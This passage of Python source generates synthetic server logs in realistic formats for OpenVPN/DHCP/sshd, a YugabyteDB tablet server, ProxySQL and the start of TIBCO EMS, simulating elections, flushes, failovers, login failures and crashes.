            s("openvpn", p, f"{ip}:{port} VERIFY OK: depth=0, /C=de/L=Stuttgart/O=Ingenieurbuero/CN={u}/emailAddress={u}@ing-buero.example", "ovpn_verify_ok")
            s("openvpn", p, f"{ip}:{port} [{u}] Peer Connection Initiated with [AF_INET]{ip}:{port}", "ovpn_peer_initiated")
            s("openvpn", p, kv([("id", "2201"), ("severity", "info"), ("sys", "SecureNet"), ("sub", "vpn"), ("event", "Connection started"), ("username", u), ("variant", "ssl"),
                                ("srcip", ip), ("virtual_ip", vip)]), "ovpn_started", "info", "vpn")
            s("openvpn", p, f"{u}/{ip}:{port} MULTI_sva: pool returned IPv4={vip}, IPv6=(Not enabled)", "ovpn_pool_returned")

    def dhcp():
        ip = LAN()
        mac = g.mac()
        host = g.c(["", " (NB-ENG-" + str(g.num(10, 60)) + ")", " (iPhone)", " (PLOTTER-HP-T830)"])
        s("dhcpd", None, f"DHCPREQUEST for {ip} from {mac}{host} via eth0", "dhcp_request")
        s("dhcpd", None, f"DHCPACK on {ip} to {mac}{host} via eth0", "dhcp_ack")

    def sshd():
        ip = g.ip("pub")
        p = g.num(10000, 60000)
        if g.r.random() < 0.8:
            s("sshd", p, f"Invalid user {g.c(['admin', 'oracle', 'test', 'ubuntu', 'support'])} from {ip} port {g.port()}", "sshd_invalid")
        else:
            s("sshd", p, f"Accepted publickey for loginuser from 172.16.10.{g.num(2, 9)} port {g.port()} ssh2: RSA SHA256:{g.alnum(43, 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/')}", "sshd_accepted")

    ev = [(34, pf), (26, http), (1.5, http_err), (2, ips), (3, auth), (1.2, rekey), (0.1, tunnel_flap), (1, ssl_vpn), (4, dhcp), (2, sshd)]
    return L.run(slowed(L, ev, 4), None)


# 3 ---------------------------------------------------------------- YugabyteDB 2.20 (the yugabyte/yugabyte image on three VMs, RF 3) behind a payments ledger, one tablet server's
#   /mnt/d0/yb-data/tserver/logs/yb-tserver.INFO: glog's "I1201 10:00:00.123456  4711 raft_consensus.cc:2815] T <tablet> P <peer> [term 7 FOLLOWER]: ..."
#   (severity letter, month and day, microseconds, thread id, source file and line) under the file's own five header lines; Raft elections when a peer
#   restarts, WAL segments rolling over, RocksDB's flushes and compactions with their EVENT_LOG_v1 JSON, slow RPCs, a soft memory limit, the master's
#   heartbeats failing, long operations with their stack dumps
@checked
def log_yugabyte(seed):
    L = Log("yugabyte_tserver_info", seed, "noyear", True, True)
    g = L.g
    ME = g.hx(32)
    PEERS = {"10.0.1.12": g.hx(32), "10.0.1.13": g.hx(32)}
    TABLETS = [g.hx(32) for _ in range(14)]
    TABLES = {t: g.hx(32) for t in TABLETS}
    st = {"term": {t: g.num(2, 30) for t in TABLETS}, "role": {t: g.c(["LEADER", "FOLLOWER", "FOLLOWER"]) for t in TABLETS}, "idx": {t: g.num(1000, 90000) for t in TABLETS},
          "seg": {t: g.num(5, 90) for t in TABLETS}, "job": g.num(10, 200), "file": g.num(100, 900), "hbfail": 0, "tid": [g.num(1000, 9000) for _ in range(24)]}

    def y(lv, src, line, msg, ev, tid=None, cont=()):
        L.t += dt.timedelta(microseconds=g.num(0, 90000))
        L.emit(f"{lv}{L.t:%m%d %H:%M:%S}.{us6(L.t)} {tid or g.c(st['tid']):>5} {src}:{line}] {msg}", ev, lv, src)
        for text, cev in cont:
            L.emit(text, cev, lv, src)

    def tp(t, bracket=True):
        return f"T {t} P {ME}" + (f" [term {st['term'][t]} {st['role'][t]}]" if bracket else "")

    def header():
        L.emit(f"Log file created at: {L.t:%Y/%m/%d %H:%M:%S}", "glog_created")
        L.emit("Running on machine: yb-node-1", "glog_machine")
        L.emit("Application fingerprint: version 2.20.7.1 build 1 revision 4c9a3b2e1f8d7a6b5c4d3e2f1a0b9c8d7e6f5a4b build_type RELEASE built at 21 Oct 2026 08:14:33 UTC", "glog_fingerprint")
        L.emit("Running duration (h:mm:ss): 0:00:00", "glog_duration")
        L.emit("Log line format: [IWEF]mmdd hh:mm:ss.uuuuuu threadid file:line] msg", "glog_format")

    def election():
        t = g.c(TABLETS)
        peer = g.c(sorted(PEERS))
        old = st["term"][t]
        if g.r.random() < 0.5:
            st["role"][t] = "FOLLOWER"
            y("I", "raft_consensus.cc", 2815, f"{tp(t)}: Leader pre-election vote request: Granting yes vote for candidate {PEERS[peer]} in term {old + 1}.", "granting_prevote")
            st["term"][t] = old + 1
            y("I", "raft_consensus.cc", 3215, f"{tp(t)}: Advancing to term {old + 1}", "advancing_term")
            y("I", "raft_consensus.cc", 2815, f"{tp(t)}: Leader election vote request: Granting yes vote for candidate {PEERS[peer]} in term {old + 1}.", "granting_vote")
        else:
            y("I", "raft_consensus.cc", 701, f"{tp(t)}: Fail of leader {PEERS[peer]} detected. Triggering leader pre-election, mode=NORMAL_ELECTION", "fail_of_leader")
            y("I", "raft_consensus.cc", 727, f"{tp(t)}: Starting pre-election with config: opid_index: -1 peers {{ permanent_uuid: \"{ME}\" member_type: VOTER last_known_private_addr {{ host: \"10.0.1.11\" port: 9100 }} cloud_info {{ placement_cloud: \"aws\" placement_region: \"eu-central-1\" placement_zone: \"eu-central-1a\" }} }} peers {{ permanent_uuid: \"{PEERS['10.0.1.12']}\" member_type: VOTER last_known_private_addr {{ host: \"10.0.1.12\" port: 9100 }} cloud_info {{ placement_cloud: \"aws\" placement_region: \"eu-central-1\" placement_zone: \"eu-central-1b\" }} }} peers {{ permanent_uuid: \"{PEERS['10.0.1.13']}\" member_type: VOTER last_known_private_addr {{ host: \"10.0.1.13\" port: 9100 }} cloud_info {{ placement_cloud: \"aws\" placement_region: \"eu-central-1\" placement_zone: \"eu-central-1c\" }} }}", "starting_preelection")
            other = [p for p in PEERS.values()]
            y("I", "leader_election.cc", 243, f"T {t} P {ME} [CANDIDATE]: Term {old + 1} pre-election: Election decided. Result: candidate won. Election summary: received 2 responses out of 3 voters: 2 yes votes; 0 no votes. yes voters: {ME}, {g.c(other)}; no voters: ", "preelection_decided")
            st["term"][t] = old + 1
            y("I", "raft_consensus.cc", 3215, f"{tp(t)}: Advancing to term {old + 1}", "advancing_term")
            y("I", "leader_election.cc", 243, f"T {t} P {ME} [CANDIDATE]: Term {old + 1} election: Election decided. Result: candidate won. Election summary: received 2 responses out of 3 voters: 2 yes votes; 0 no votes. yes voters: {ME}, {g.c(other)}; no voters: ", "election_decided")
            y("I", "raft_consensus.cc", 2866, f"{tp(t)}: Calling mark dirty synchronously for reason code NEW_LEADER_ELECTED", "mark_dirty")
            st["role"][t] = "LEADER"
            i = st["idx"][t]
            y("I", "raft_consensus.cc", 1062, f"{tp(t)}: Becoming Leader. State: Replica: {ME}, State: Running, Role: LEADER, Watermarks: {{Received: {old}.{i} Committed: {old}.{i}}} Leader: 0.0", "becoming_leader")
            for ip, p in PEERS.items():
                y("I", "consensus_queue.cc", 1467, f"T {t} P {ME} [LEADER]: Connected to new peer: {{ peer: {p} is_new: 0 last_received: {old}.{i} next_index: {i + 1} last_known_committed_idx: {i} is_last_exchange_successful: 1 needs_remote_bootstrap: 0 member_type: VOTER num_sst_files: 0 last_applied: {old}.{i} }}", "connected_new_peer")

    def wal():
        t = g.c(TABLETS)
        st["idx"][t] += g.num(2000, 9000)
        st["seg"][t] += 1
        y("I", "log.cc", 1218, f"T {t} P {ME}: Max segment size reached. Starting new segment allocation.", "max_segment")
        y("I", "log.cc", 1097, f"T {t} P {ME}: Last appended OpId in segment /mnt/d0/yb-data/tserver/wals/table-{TABLES[t]}/tablet-{t}/wal-{st['seg'][t] - 1:09d}: {st['term'][t]}.{st['idx'][t]}", "last_appended_opid")
        y("I", "log.cc", 1114, f"T {t} P {ME}: Rolled over to a new log segment at /mnt/d0/yb-data/tserver/wals/table-{TABLES[t]}/tablet-{t}/wal-{st['seg'][t]:09d}", "rolled_over")

    def flush():
        t = g.c(TABLETS)
        db = g.c(["R", "R", "I"])
        st["job"] += 1
        st["file"] += 1
        j = st["job"]
        us = int(epoch(L.t) * 1e6)
        y("I", "db_impl.cc", 4208, f"T {t} P {ME} [{db}]: [default] [JOB {j}] Flushing memtable with next log file: 0", "flushing_memtable")
        y("I", "event_logger.cc", 67, f'T {t} P {ME} [{db}]: EVENT_LOG_v1 {{"time_micros": {us}, "job": {j}, "event": "flush_started", "num_memtables": 1, "num_entries": {g.num(100, 90000)}, "num_deletes": {g.num(0, 900)}, "memory_usage": {g.num(10 ** 6, 2 * 10 ** 8)}}}', "event_flush_started")
        L.tick(0.3)
        y("I", "event_logger.cc", 67, f'T {t} P {ME} [{db}]: EVENT_LOG_v1 {{"time_micros": {us + g.num(10 ** 5, 10 ** 6)}, "cf_name": "default", "job": {j}, "event": "table_file_creation", "file_number": {st["file"]}, "file_size": {g.num(10 ** 5, 10 ** 8)}, "table_properties": {{"data_size": {g.num(10 ** 5, 10 ** 8)}, "data_index_size": {g.num(100, 90000)}, "filter_size": {g.num(1000, 900000)}, "raw_key_size": {g.num(10 ** 5, 10 ** 7)}, "raw_average_key_size": {g.num(30, 90)}, "raw_value_size": {g.num(10 ** 5, 10 ** 7)}, "raw_average_value_size": {g.num(10, 300)}, "num_data_blocks": {g.num(10, 9000)}, "num_entries": {g.num(100, 90000)}, "num_filter_blocks": 1, "num_data_index_blocks": 1, "filter_policy_name": "DocKeyV3Filter", "kDeletedKeys": "0"}}}}', "event_table_file_creation")
        y("I", "flush_job.cc", 293, f"T {t} P {ME} [{db}]: [default] [JOB {j}] Level-0 flush table #{st['file']}: {g.num(10 ** 5, 10 ** 8)} bytes OK frontiers: {{ smallest: {{ op_id: {st['term'][t]}.{st['idx'][t] - g.num(100, 900)} hybrid_time: {{ physical: {us - 9000000} logical: 0 }} history_cutoff: <invalid> hybrid_time_filter: <invalid> max_value_level_ttl_expiration_time: <invalid> primary_schema_version: <NULL> cotable_schema_versions: [] }} largest: {{ op_id: {st['term'][t]}.{st['idx'][t]} hybrid_time: {{ physical: {us} logical: 0 }} history_cutoff: <invalid> hybrid_time_filter: <invalid> max_value_level_ttl_expiration_time: <invalid> primary_schema_version: <NULL> cotable_schema_versions: [] }} }}", "level0_flush")
        y("I", "event_logger.cc", 67, f'T {t} P {ME} [{db}]: EVENT_LOG_v1 {{"time_micros": {us + g.num(10 ** 6, 2 * 10 ** 6)}, "job": {j}, "event": "flush_finished", "lsm_state": [{g.num(1, 6)}]}}', "event_flush_finished")
        if g.r.random() < 0.35:
            compact(t, db)

    def compact(t, db):
        st["job"] += 1
        j = st["job"]
        us = int(epoch(L.t) * 1e6)
        n = g.num(3, 6)
        files = [st["file"] - k for k in range(n)]
        y("I", "compaction_job.cc", 1218, f"T {t} P {ME} [{db}]: [default] [JOB {j}] Compacting {n}@0 files to L0, score 1.00", "compacting_files")
        y("I", "event_logger.cc", 67, f'T {t} P {ME} [{db}]: EVENT_LOG_v1 {{"time_micros": {us}, "job": {j}, "event": "compaction_started", "files_L0": [{", ".join(map(str, files))}], "score": 1, "input_data_size": {g.num(10 ** 6, 10 ** 9)}}}', "event_compaction_started")
        L.tick(3)
        st["file"] += 1
        y("I", "compaction_job.cc", 1000, f"T {t} P {ME} [{db}]: [default] [JOB {j}] Compacted {n}@0 files to L0 => {g.num(10 ** 6, 10 ** 9)} bytes", "compacted_files")
        y("I", "event_logger.cc", 67, f'T {t} P {ME} [{db}]: EVENT_LOG_v1 {{"time_micros": {us + g.num(10 ** 6, 9 * 10 ** 6)}, "job": {j}, "event": "compaction_finished", "compaction_time_micros": {g.num(10 ** 5, 9 * 10 ** 6)}, "output_level": 0, "num_output_files": 1, "total_output_size": {g.num(10 ** 6, 10 ** 9)}, "num_input_records": {g.num(10 ** 4, 10 ** 7)}, "num_output_records": {g.num(10 ** 4, 10 ** 7)}, "num_subcompactions": 1, "lsm_state": [1]}}', "event_compaction_finished")
        for f in files:
            y("I", "event_logger.cc", 67, f'T {t} P {ME} [{db}]: EVENT_LOG_v1 {{"time_micros": {us + g.num(10 ** 6, 9 * 10 ** 6)}, "job": {j}, "event": "table_file_deletion", "file_number": {f}}}', "event_table_file_deletion")

    def slow_rpc():
        ip = f"10.0.{g.c([5, 5, 6])}.{g.num(10, 60)}"
        if g.r.random() < 0.6:
            ms = g.num(1001, 9000)
            y("W", "yb_rpc.cc", 499, f"Call yb.tserver.TabletServerService.{g.c(['Write', 'Read', 'UpdateTransaction', 'GetTransactionStatus'])} {ip}:{g.port()} => 10.0.1.11:9100 (request call id {g.num(10 ** 5, 10 ** 8)}) took {ms}ms (client timeout {g.c([60000, 120000])}ms).", "call_took")
        else:
            peer = g.c(sorted(PEERS))
            y("W", "outbound_call.cc", 386, f"RPC callback for RPC call yb.consensus.ConsensusService.UpdateConsensus -> {{ remote: {peer}:9100 idx: {g.num(0, 7)} protocol: 0x{g.hx(12)} -> tcpc }} , state=FINISHED_SUCCESS. took {g.f(0.5, 3, 3)}s (expected: 0.050s)", "rpc_callback_took")

    def memlimit():
        pct = g.f(85, 96, 2)
        y("W", "tablet_service.cc", 1672, f"Rejecting Write request: Soft memory limit exceeded (at {pct}% of capacity), score: {g.f(0.01, 0.9, 2)} [suppressed {g.num(0, 90)} similar messages]", "rejecting_write")
        if g.r.random() < 0.3:
            y("I", "mem_tracker.cc", 338, f"Soft memory limit exceeded (at {pct}% of capacity) for tracker root, reducing usage", "soft_limit_reducing")
            y("I", "tablet_memory_manager.cc", 260, f"Memstore global limit of {g.num(1, 4)}.00 GiB reached, looking for tablet to flush", "memstore_limit")

    def peer_down():
        ip = g.c(sorted(PEERS))
        t = g.c([x for x in TABLETS if st["role"][x] == "LEADER"] or TABLETS)
        for n in range(g.num(1, 4)):
            y("W", "consensus_peers.cc", 546, f"T {t} P {ME} -> Peer {PEERS[ip]} ([host: \"{ip}\" port: 9100], []): Couldn't send request.  Status: Network error (yb/util/net/socket.cc:540): recvmsg error: Connection refused (system error 111). Retrying in the next heartbeat period. Already tried {n * g.num(1, 9) + 1} times. State: 2", "couldnt_send")
            L.tick(1.5)

    def hb():
        st["hbfail"] += 1
        if g.r.random() < 0.6 and st["hbfail"] > 2:
            y("I", "heartbeater.cc", 337, f"P {ME}: Connected to a leader master server at 10.0.1.1{g.num(0, 2)}:7100", "hb_connected")
            st["hbfail"] = 0
        else:
            y("W", "heartbeater.cc", 628, f"P {ME}: Failed to heartbeat to 10.0.1.10:7100 ({st['hbfail']} consecutive failures): Timed out (yb/rpc/outbound_call.cc:615): TSHeartbeat RPC (request call id {g.num(10 ** 5, 10 ** 7)}) to 10.0.1.10:7100 timed out after 15.000s", "hb_failed")

    def long_op():
        secs = g.f(1, 12, 3)
        tid = g.c(st["tid"])
        frames = [("    @     0x7f3a1c4e8c9e  __pthread_cond_wait", "stack_frame"), ("    @     0x7f3a1c4e93f8  pthread_cond_timedwait@@GLIBC_2.3.2", "stack_frame")]
        fr = g.c([["yb::ConditionVariable::WaitUntil()", "yb::consensus::RaftConsensus::UpdateReplica()", "yb::consensus::RaftConsensus::Update()", "yb::tserver::ConsensusServiceImpl::UpdateConsensus()"],
                  ["yb::tablet::Tablet::Flush()", "yb::tablet::TabletPeer::FlushIfNeeded()", "yb::tserver::TSTabletManager::MaybeFlush()"],
                  ["yb::log::Log::DoAppend()", "yb::log::Log::AppendThread::DoWork()", "yb::Thread::SuperviseThread()"]])
        for f in fr:
            frames.append((f"    @          0x{g.hx(7)}  {f}", "stack_frame"))
        frames += [("    @     0x7f3a1c4e1ac3  start_thread", "stack_frame"), ("    @     0x7f3a1c5738d0  __clone", "stack_frame")]
        y("W", "long_operation_tracker.cc", 125, f"{fr[0].split('::')[-1].replace('()', '')} running for {secs}s in thread {tid}:", "long_operation", tid, frames)

    def txn():
        y("I", "transaction_coordinator.cc", 1325, f"T {g.c(TABLETS)} P {ME}: Request to abort transaction {g.uuid()} by {g.uuid()}: Expired: Transaction {g.uuid()} expired or aborted by a conflict: 40001", "abort_transaction")

    def conflict():
        y("I", "conflict_resolution.cc", 986, f"T {g.c(TABLETS)} P {ME}: Conflict with committed transaction {g.uuid()}: Transaction conflict retries exceeded, priority {g.num(10 ** 9, 2 ** 32)}", "conflict_committed")

    def err():
        y("E", "tablet_service.cc", 1897, f"T {g.c(TABLETS)} P {ME}: Read failed: Timed out (yb/rpc/rpc.cc:229): Read RPC (request call id {g.num(10 ** 5, 10 ** 7)}) to 10.0.1.{g.c([12, 13])}:9100 timed out after 60.000s", "read_failed")

    def ts_metrics():
        y("I", "tablet_server.cc", 1047, f"Tablet server {ME} has {len(TABLETS)} tablets, {sum(1 for t in TABLETS if st['role'][t] == 'LEADER')} leaders", "ts_tablets")

    header()
    ev = [(10, election), (18, wal), (22, flush), (8, slow_rpc), (4, memlimit), (3, peer_down), (3, hb), (1.5, long_op), (6, txn), (5, conflict), (1, err), (2, ts_metrics)]
    return L.run(slowed(L, ev, 8), None)


# 4 ---------------------------------------------------------------- ProxySQL 2.6 in front of a MySQL 8.0 primary and two replicas of a ticketing shop, /var/lib/proxysql/proxysql.log:
#   "2026-12-01 10:00:00 MySQL_Monitor.cpp:1842:monitor_ping_process_ready_tasks(): [ERROR] ..." (source file, line and function before the bracketed level)
#   or "2026-12-01 10:00:00 [INFO] ..." for lines written without a place; the start-up with its "Standard ... rev." banners that write no time, the
#   configuration loaded to runtime with the mysql_servers tables dumped as ASCII tables and as "HID: ..." lines, the monitor shunning a replica that lags
#   or stops answering, connection errors, clients refused, the admin interface's commands
@checked
def log_proxysql(seed):
    L = Log("proxysql_log", seed, "full", True, True)
    g = L.g
    SERVERS = [(10, "10.0.2.11", 1000), (20, "10.0.2.12", 1000), (20, "10.0.2.13", 1000), (20, "10.0.2.11", 1)]
    st = {"status": {s[1]: "ONLINE" for s in SERVERS}, "fd": g.num(30, 90)}
    APPS = ["10.0.5.21", "10.0.5.22", "10.0.5.23", "10.0.5.31", "10.0.6.14"]

    def p(where, lv, msg, ev, cont=()):
        L.t += dt.timedelta(milliseconds=g.num(0, 300))
        head = f"{L.t:%Y-%m-%d %H:%M:%S} " + (f"{where[0]}:{where[1]}:{where[2]}(): " if where else "")
        L.emit(f"{head}[{lv}] {msg}", ev, lv, where[0] if where else None)
        for text, cev in cont:
            L.emit(text, cev, lv, where[0] if where else None)

    def banner(text, ev):
        L.emit(text, ev)

    def table():
        cols = ["hostgroup_id", "hostname", "port", "gtid_port", "weight", "status", "compression", "max_connections", "max_replication_lag", "use_ssl", "max_latency_ms", "comment"]
        rows = [[str(hg), h, "3306", "0", str(w), "0", "0", "1000", "10" if hg == 20 else "0", "0", "0", {"10.0.2.11": "primary", "10.0.2.12": "replica-a", "10.0.2.13": "replica-b"}[h]] for hg, h, w in SERVERS]
        wid = [max(len(c), *(len(r[i]) for r in rows)) for i, c in enumerate(cols)]
        sep = "+" + "+".join("-" * (w + 2) for w in wid) + "+"
        out = [(sep, "table_rule"), ("| " + " | ".join(c.ljust(w) for c, w in zip(cols, wid)) + " |", "table_header"), (sep, "table_rule")]
        out += [("| " + " | ".join(v.ljust(w) for v, w in zip(r, wid)) + " |", "table_row") for r in rows]
        out.append((sep, "table_rule"))
        return out

    def hid_lines():
        return [(f"HID: {hg} , address: {h} , port: 3306 , gtid_port: 0 , weight: {w} , status: {st['status'][h]} , max_connections: 1000 , max_replication_lag: {10 if hg == 20 else 0} , use_ssl: 0 , max_latency_ms: 0 , comment: {'primary' if hg == 10 else 'replica'}", "hid_line") for hg, h, w in SERVERS]

    def commit():
        p(("MySQL_HostGroups_Manager.cpp", 1832, "commit"), "INFO", "Generating runtime mysql servers records.", "generating_runtime")
        p(None, "INFO", "Dumping current MySQL Servers structures for hostgroup ALL", "dumping_current", hid_lines())
        p(None, "INFO", "Dumping mysql_servers: ALL", "dumping_mysql_servers", table())
        p(("MySQL_HostGroups_Manager.cpp", 2211, "commit"), "INFO", f"Checksum for table mysql_servers is 0x{g.HX(16)}", "checksum_table")

    def startup():
        p(None, "INFO", "Using config file /etc/proxysql.cnf", "using_config")
        p(None, "INFO", "Current RLIMIT_NOFILE: 102400", "rlimit_nofile")
        p(None, "INFO", "Using OpenSSL version: OpenSSL 3.0.13 30 Jan 2024", "openssl_version")
        p(None, "INFO", "No SSL keys/certificates found in datadir (/var/lib/proxysql). Generating new keys/certificates.", "no_ssl_keys")
        p(None, "INFO", "Starting ProxySQL", "starting_proxysql")
        p(None, "INFO", "Sucessfully started", "successfully_started")
        p(None, "INFO", "Angel process started ProxySQL process " + str(g.num(1000, 60000)), "angel_started")
        banner("Standard ProxySQL Cluster rev. 0.4.0906 -- ProxySQL_Cluster.cpp -- Tue Oct 14 09:12:40 2025", "banner_rev")
        banner("Standard ProxySQL Statistics rev. 1.4.1027 -- ProxySQL_Statistics.cpp -- Tue Oct 14 09:12:40 2025", "banner_rev")
        banner("Standard ProxySQL HTTP Server Handler rev. 1.4.1031 -- ProxySQL_HTTP_Server.cpp -- Tue Oct 14 09:12:40 2025", "banner_rev")
        p(("ProxySQL_Admin.cpp", 6142, "flush_mysql_variables___database_to_runtime"), "INFO", "Computed checksum for 'LOAD MYSQL VARIABLES TO RUNTIME' was '0x" + g.HX(16) + "', with epoch '" + str(int(epoch(L.t))) + "'", "computed_checksum")
        commit()
        banner("Standard ProxySQL Admin rev. 2.0.6.0805 -- ProxySQL_Admin.cpp -- Tue Oct 14 09:12:40 2025", "banner_rev")
        banner("Standard MySQL Threads Handler rev. 0.2.0902 -- MySQL_Thread.cpp -- Tue Oct 14 09:12:40 2025", "banner_rev")
        banner("Standard MySQL Authentication rev. 0.2.0902 -- MySQL_Authentication.cpp -- Tue Oct 14 09:12:40 2025", "banner_rev")
        p(None, "INFO", "Dumping mysql_servers_incoming", "dumping_incoming", table())
        banner("Standard Query Processor rev. 2.0.6.0805 -- Query_Processor.cpp -- Tue Oct 14 09:12:40 2025", "banner_rev")
        p(("MySQL_Monitor.cpp", 1107, "print_version"), "INFO", "Standard ProxySQL Monitor (StdMyMon) rev. 2.0.1226 -- MySQL_Monitor.cpp -- Tue Oct 14 09:12:40 2025", "monitor_version")
        p(None, "INFO", "ProxySQL version 2.6.5-percona-1.1", "proxysql_version")
        p(None, "INFO", "Detected OS: Linux proxysql-1 6.8.0-49-generic #49-Ubuntu SMP PREEMPT_DYNAMIC Mon Nov  4 02:06:24 UTC 2024 x86_64", "detected_os")
        p(("ProxySQL_Admin.cpp", 11102, "load_mysql_query_rules_to_runtime"), "INFO", f"Computed checksum for 'LOAD MYSQL QUERY RULES TO RUNTIME' was '0x{g.HX(16)}', with epoch '{int(epoch(L.t))}'", "computed_checksum")
        p(None, "INFO", "Latest ProxySQL version available: 2.7.1", "latest_version")

    def shun_lag():
        h = g.c(["10.0.2.12", "10.0.2.13"])
        lag = g.num(11, 300)
        p(("MySQL_HostGroups_Manager.cpp", 3942, "replication_lag_action_inner"), "WARNING", f"Shunning server {h}:3306 from HG 20 with replication lag of {lag} second, count number: '{g.num(1, 3)}'", "shun_lag")
        st["status"][h] = "SHUNNED_REPLICATION_LAG"
        L.tick(40)
        p(("MySQL_HostGroups_Manager.cpp", 3956, "replication_lag_action_inner"), "WARNING", f"Re-enabling server {h}:3306 from HG 20 with replication lag of {g.num(0, 9)} second", "reenable_lag")
        st["status"][h] = "ONLINE"

    def ping_fail():
        h = g.c(["10.0.2.12", "10.0.2.13", "10.0.2.13"])
        n = g.num(1, 4)
        for _ in range(n):
            p(("MySQL_Monitor.cpp", 2560, "monitor_ping_process_ready_tasks"), "ERROR", f"Error after {g.num(1000, 1001)}ms on server {h}:3306 : timeout on creating new connection: Can't connect to MySQL server on '{h}' (115)", "ping_error")
            L.tick(2)
        if n >= 3:
            p(("MySQL_Monitor.cpp", 2794, "monitor_ping"), "ERROR", f"Server {h}:3306 missed 3 heartbeats, shunning it and killing all the connections. Disabling other checks until the node comes back online.", "missed_heartbeats")
            st["status"][h] = "SHUNNED"
            for _ in range(g.num(1, 3)):
                st["fd"] += 1
                p(("mysql_connection.cpp", 1245, "handler"), "ERROR", f"Failed to mysql_real_connect() on 20:{h}:3306 , FD (Conn:{st['fd']} , MyDS:{st['fd']}) , 2002: Can't connect to MySQL server on '{h}' (115).", "real_connect_failed")
            p(("MySQL_HostGroups_Manager.cpp", 1015, "connect_error"), "ERROR", f"Shunning server {h}:3306 with {g.num(5, 12)} errors/sec. Shunning for 10 seconds", "shunning_errors")
            L.tick(30)
            st["status"][h] = "ONLINE"

    def read_only():
        h = g.c(["10.0.2.11", "10.0.2.12", "10.0.2.13"])
        r = g.r.random()
        if r < 0.6:
            p(("MySQL_Monitor.cpp", 1605, "monitor_read_only_thread"), "ERROR", f"Timeout on read_only check for {h}:3306 after {g.num(1000, 1500)}ms. Unable to create a connection. If the server is overload, increase mysql-monitor_connect_timeout. Error: timeout on creating new connection: Can't connect to MySQL server on '{h}' (110).", "read_only_timeout")
        else:
            p(("MySQL_HostGroups_Manager.cpp", 4311, "read_only_action"), "INFO", f"read_only_action() detected RO={0 if h == '10.0.2.11' else 1} on server {h}:3306 for the first time after commit(), but no need to reconfigure", "read_only_action")

    def denied():
        user = g.c(["shop_app", "shop_app", "reporting", "root", "shop_rw"])
        p(("MySQL_Session.cpp", 6204, "handler___status_CONNECTING_CLIENT___STATE_SERVER_HANDSHAKE"), "ERROR", f"ProxySQL Error: Access denied for user '{user}'@'{g.c(APPS + ['10.0.9.' + str(g.num(2, 90))])}' (using password: YES)", "access_denied")

    def client_err():
        r = g.r.random()
        if r < 0.5:
            p(("MySQL_Session.cpp", 4871, "handler_minus1_LogErrorDuringQuery"), "WARNING", f"Error during query on (10,10.0.2.11,3306,{g.num(1000, 99999)}): 1213, Deadlock found when trying to get lock; try restarting transaction", "error_during_query")
        elif r < 0.8:
            p(("MySQL_Session.cpp", 4871, "handler_minus1_LogErrorDuringQuery"), "WARNING", f"Error during query on (20,{g.c(['10.0.2.12', '10.0.2.13'])},3306,{g.num(1000, 99999)}): 3024, Query execution was interrupted, maximum statement execution time exceeded", "error_during_query")
        else:
            p(("MySQL_Thread.cpp", 3891, "process_all_sessions"), "WARNING", f"Closing unhealthy client connection {g.c(APPS)}:{g.port()}", "closing_unhealthy")

    def killed():
        p(("MySQL_Session.cpp", 5402, "handler___status_WAITING_CLIENT_DATA"), "WARNING", f"Killing client connection {g.c(APPS)}:{g.port()} because inactive for {g.num(28800, 30000)}000ms", "killing_inactive")

    def admin():
        cmd = g.c(["LOAD MYSQL SERVERS TO RUNTIME", "SAVE MYSQL SERVERS TO DISK", "LOAD MYSQL QUERY RULES TO RUNTIME", "LOAD MYSQL USERS TO RUNTIME", "SAVE MYSQL USERS TO DISK"])
        p(("ProxySQL_Admin.cpp", 4090, "admin_session_handler"), "INFO", f"Received {cmd} command", "received_command")
        if cmd == "LOAD MYSQL SERVERS TO RUNTIME":
            commit()
        elif cmd.startswith("LOAD"):
            p(("ProxySQL_Admin.cpp", 6142, "flush_mysql_variables___database_to_runtime"), "INFO", f"Computed checksum for '{cmd}' was '0x{g.HX(16)}', with epoch '{int(epoch(L.t))}'", "computed_checksum")
        if g.r.random() < 0.3:
            p(("ProxySQL_Cluster.cpp", 953, "set_checksums"), "INFO", f"Cluster: detected a new checksum for mysql_servers from peer 10.0.2.41:6032, version {g.num(2, 90)}, epoch {int(epoch(L.t))}, checksum 0x{g.HX(16)} . Not syncing yet ...", "cluster_new_checksum")

    def stats():
        if g.r.random() < 0.1:
            p(("ProxySQL_Statistics.cpp", 1021, "MySQL_Threads_Handler_sets"), "INFO", "Purging stats_history tables older than 7 days", "purging_stats")
        else:
            p(("MySQL_HostGroups_Manager.cpp", 6180, "purge_mysql_servers_table"), "INFO", f"Freeing {g.num(1, 40)} connections from connection pool of hostgroup {g.c([10, 20])}", "freeing_connections")

    def restart():
        p(None, "ERROR", "Watchdog: 4 threads missed a heartbeat", "watchdog_missed")
        L.emit("Error: signal 11:", "signal_11")
        for f in ["/usr/bin/proxysql(_Z13crash_handleri+0x2a)[0x5f8b1a]", "/lib/x86_64-linux-gnu/libc.so.6(+0x45320)[0x7f1c2e845320]",
                  "/usr/bin/proxysql(_ZN10MySQL_Data_Stream10read_pktsEv+0x1e4)[0x6c2ab4]", "/usr/bin/proxysql(_ZN12MySQL_Thread3runEv+0x9b2)[0x6a1d92]",
                  "/usr/bin/proxysql(_Z24mysql_worker_thread_funcPv+0x77)[0x5f3217]", "/lib/x86_64-linux-gnu/libc.so.6(+0x9ca94)[0x7f1c2e89ca94]"]:
            L.emit(f, "backtrace_line")
        p(None, "INFO", f"ProxySQL crashed. Restarting!", "crashed_restarting")
        L.tick(2)
        startup()

    startup()
    ev = [(3, shun_lag), (4, ping_fail), (10, read_only), (12, denied), (20, client_err), (8, killed), (3, admin), (6, stats), (0.12, restart)]
    L.run(slowed(L, ev, 45), None)
    return carry_time(L, lambda r: r[1] not in ("banner_rev", "signal_11", "backtrace_line", "table_rule", "table_header", "table_row", "hid_line"))


# 5 ---------------------------------------------------------------- TIBCO Enterprise Message Service 10.2 (tibemsd, fault-tolerant pair, this the primary) carrying orders between a shop's
#   services, /opt/tibco/ems/log/tibemsd.log with log_trace=DEFAULT,+CONNECT,+CONNECT_ERROR,+ADMIN,+MSG on the order queues: "2026-12-01 10:00:00.123 message", a
#   message that may start with "WARNING:", "ERROR:" or "SEVERE ERROR:"; the version banner tibemsd writes without a time at each start, the start-up
#   lines, clients connecting and disconnecting, failed logins, missed heartbeats, message traces on the order queues, queues hitting their limits, the
#   backup server coming and going, admin commands, a store that runs out of disk before a restart
@checked
def log_tibco(seed):
    L = Log("tibco_ems_tibemsd_log", seed, "full", True, False)
    g = L.g
